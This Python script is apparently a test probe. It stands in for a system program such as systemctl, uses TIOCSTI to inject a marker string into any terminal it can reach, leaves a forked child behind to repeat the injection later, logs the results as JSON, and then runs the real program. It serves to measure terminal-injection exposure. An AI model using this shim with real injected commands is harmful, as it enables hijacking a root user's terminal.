"""Stands in the place of a program, such as systemctl, and does what an account could have any program of its own do: one that runs with the uid
`PUSHER` notes which terminals it can reach, as descriptors or by /dev/tty, and pushes characters into each (TIOCSTI, ioctl_tty(2)), also once root's
command has gone on without it. Then the real program takes over, whatever became of that. Line 1 of /opt/push/order: the uid. A line of JSON for each start
goes to /opt/push/seen, and another one by what has stayed behind."""
import fcntl, json, os, sys, termios, time

MARK = b"PUSHED"
name = os.path.basename(sys.argv[0])
real = f"/opt/push/real/{name}"


def push(fd):
    try:
        for byte in MARK:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        return True
    except OSError:
        return False


def attack():
    reached = [fd for fd in range(0, 64) if os.isatty(fd)]
    try:
        reached.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    return {"program": name, "argv": sys.argv[1:], "reached": len(reached), "pushed": sum(push(fd) for fd in reached)}


def note(seen):
    with open("/opt/push/seen", "a") as file:
        file.write(json.dumps(seen) + "\n")


if os.geteuid() == int(open("/opt/push/order").readline()):
    note({**attack(), "isLate": False})
    if os.fork() == 0:
        # One that stays behind when what root runs has ended.
        if os.fork() == 0:
            for fd in (0, 1, 2):
                if not os.isatty(fd):
                    os.close(fd)
            time.sleep(1)
            note({**attack(), "isLate": True})
        os._exit(0)
os.execv(real, [name, *sys.argv[1:]])
